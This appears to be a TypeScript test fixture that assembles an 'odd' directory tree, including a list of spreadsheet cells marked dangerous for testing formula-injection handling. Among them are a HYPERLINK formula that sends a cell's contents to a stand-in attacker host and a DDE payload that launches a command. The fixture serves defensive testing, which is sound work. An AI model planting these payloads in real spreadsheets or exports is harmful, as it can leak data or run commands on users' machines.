/**
 * The directory with the odd listings of `test/fixtures/odd/`: MCP servers of each kind on `aria`,
 * an RPC endpoint on `cela`, cells like formulas and placeholders on `bora`, letters whose small
 * form is longer or depends on where they stand on `nemo`.
 */
import path from 'node:path';
import { directory } from './directory.ts';
import { projectFolder } from './paths.ts';
import { readTree } from './source-tree.ts';

/** Cells that a spreadsheet would run. */
export const dangerous = [
  ...[
    '=1+1',
    '=HYPERLINK("https://evil.example/?"&A1;"press")',
    "=cmd|' /C calc'!A0",
    '+49 30 1234',
    '-5% for students',
  ],
  ...['@SUM(1;2)', '＝1+1', '＋1', '－1', '＠x'],
];

const providers = 'references/providers/providers.csv';

export const oddTree = {
  ...directory,
  ...readTree(path.join(projectFolder, 'test/fixtures/odd')),
  [providers]: `${directory[providers]}sum,=Sum & Co,,,,,,,,,,,,\n`,
};
